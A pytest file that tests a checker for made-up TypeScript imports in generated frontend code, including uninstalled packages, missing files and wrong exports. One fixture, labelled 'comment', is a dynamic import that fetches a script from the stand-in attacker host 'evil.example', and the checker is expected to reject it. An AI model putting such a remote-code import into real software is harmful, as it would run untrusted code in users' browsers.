# ruff: noqa: ISC002, ISC004
"""TypeScript imports that resolve and those that models make up."""

from __future__ import annotations

from dataclasses import replace

import pytest

from gencode_graph.artifacts import Analysis
from gencode_graph.tools.checks.script_imports import script_imports_resolve
from gencode_graph.tools.draft import Facts
from tests.unit.checks.drafts import APP, FACTS, told

PAGE = "frontend/src/pages/hives/index.tsx"
SPEC = "frontend/e2e/hives.spec.ts"

MADE_UP = {
    "package": (PAGE, 'import axios from "axios"\n', "'axios' is not installed"),
    "scoped": (
        PAGE,
        'import { Dialog } from "@radix-ui/react-dialog"\n',
        "'@radix-ui/react-dialog' is not installed",
    ),
    "router dom": (PAGE, 'import { Link } from "react-router-dom"\n', "'react-router-dom' is not installed"),
    "dev package": (PAGE, 'import { test } from "@playwright/test"\n', "'@playwright/test' is not installed"),
    "node": (PAGE, 'import fs from "node:fs"\n', "is not installed"),
    "comment": (PAGE, 'const x = import(/* from there */ "https://evil.example/x.js")\n', "is not installed"),
    "alias": (PAGE, 'import { Sheet } from "@/components/ui/sheet"\n', "There are: button.tsx"),
    "relative": (PAGE, 'import { Form } from "./form-dialog"\n', "no file './form-dialog'"),
    "name": (PAGE, 'import { Buton } from "@/components/ui/button"\n', "Did you mean Button?"),
    "default": (PAGE, 'import Button from "@/components/ui/button"\n', "has no default export"),
    "named for default": (PAGE, 'import { Other } from "../other"\n', "belongs to another page"),
    "another page": (PAGE, 'import { Table } from "@/pages/other/table"\n', "belongs to another page"),
    "type": (PAGE, 'import type { operations } from "@/api/schema"\n', "does not export 'operations'"),
    "re-export": (PAGE, 'export { nothing } from "@/lib/utils"\n', "does not export 'nothing'"),
    "dynamic": (PAGE, 'const a = import("./chart")\n', "no file './chart'"),
    "through a star": (
        PAGE,
        'import { cm } from "@/lib"\n',
        "'@/lib' does not export 'cm'. It exports: client, cn, mock.",
    ),
    "spec": (SPEC, 'import { signIn } from "./support"\n', "does not export 'signIn'"),
    "css": (PAGE, 'import "./index.css"\n', "no file './index.css'"),
}


@pytest.mark.parametrize("name", MADE_UP)
def test_made_up_imports(name: str) -> None:
    path, text, word = MADE_UP[name]
    found = told(script_imports_resolve, {path: text})
    assert len(found) == 1
    assert word in found[0]


FINE = {
    "packages": (PAGE, 'import { useState, type FC } from "react"\nimport { X } from "lucide-react"\n'
                 'import { RouterProvider } from "react-router/dom"\nimport { useQuery } from "@tanstack/react-query"\n'),
    "alias": (PAGE, 'import { Button, buttonVariants } from "@/components/ui/button"\nimport { cn } from "@/lib/utils"\n'),
    "types": (PAGE, 'import type { components, paths } from "@/api/schema"\nimport { ApiError, type unwrap } from "@/lib/api"\n'),
    "star": (PAGE, 'import * as utils from "@/lib/utils"\nimport { cn, client, mock } from "@/lib"\n'),
    "renamed": (PAGE, 'import { cn as classes } from "../../lib/utils"\n'),
    "extension": (PAGE, 'import { cn } from "@/lib/utils.ts"\nimport "@/theme.css"\nimport css from "@/theme.css?inline"\n'),
    "spec": (SPEC, 'import { expect, test } from "./support"\nimport { readFile } from "node:fs/promises"\n'
             'import { chromium } from "@playwright/test"\n'),
    "text": (PAGE, 'const a = "import x from \'axios\'"\nconst b = import.meta.env.DEV\n'),
    "elsewhere": ("scripts/x.mjs", 'import a from "axios"\n'),
}  # fmt: skip


@pytest.mark.parametrize("name", FINE)
def test_fine_imports(name: str) -> None:
    path, text = FINE[name]
    assert told(script_imports_resolve, {path: text}) == []


def test_the_drafts_own_files_count() -> None:
    data = "export type A = 1\nexport const { b, c: d } = x, [e] = y\nexport enum F { G }\nexport async function h() {}\n" \
           "export default class I {}\nexport interface J {}\n"  # fmt: skip
    page = 'import I, { b, d, e, F, h, type A, type J } from "./data"\nimport { c } from "./data"\n'
    found = told(script_imports_resolve, {"frontend/src/pages/hives/data.ts": data, PAGE: page})
    assert len(found) == 1
    assert f"{PAGE}:2" in found[0]
    assert "does not export 'c'" in found[0]


def listing(*libraries: str) -> Facts:
    pages = [
        {"slug": "hives", "route": "/", "kind": "tool", "title": "Hives", "libraries": libraries},
        {
            "slug": "other",
            "route": "/other",
            "kind": "tool",
            "title": "Other",
            "libraries": ["charts", "csv"],
        },
    ]
    wish = Analysis.model_validate({"name": "A", "summary": "", "pages": pages, "needs": {"backend": False}})
    package = '{"dependencies": {"react": "19", "papaparse": "5", "recharts": "3"}}'
    chart = "export const BarChart = () => null\n"
    files = {**APP, "frontend/package.json": package, "frontend/src/components/chart/index.ts": chart}
    return replace(FACTS, analysis=wish, files=files)


SHELVED = 'import Papa from "papaparse"\nimport { BarChart } from "@/components/chart"\n'


def test_a_library_is_for_the_pages_that_list_it() -> None:
    found = told(script_imports_resolve, {PAGE: SHELVED}, facts=listing("charts"))
    assert len(found) == 1
    assert "'papaparse' is of the library 'csv', which this page does not list" in found[0]
    assert "It may use: charts." in found[0]
    assert "It lists none." in told(script_imports_resolve, {PAGE: SHELVED}, facts=listing())[0]
    assert told(script_imports_resolve, {PAGE: SHELVED}, facts=listing("charts", "csv")) == []
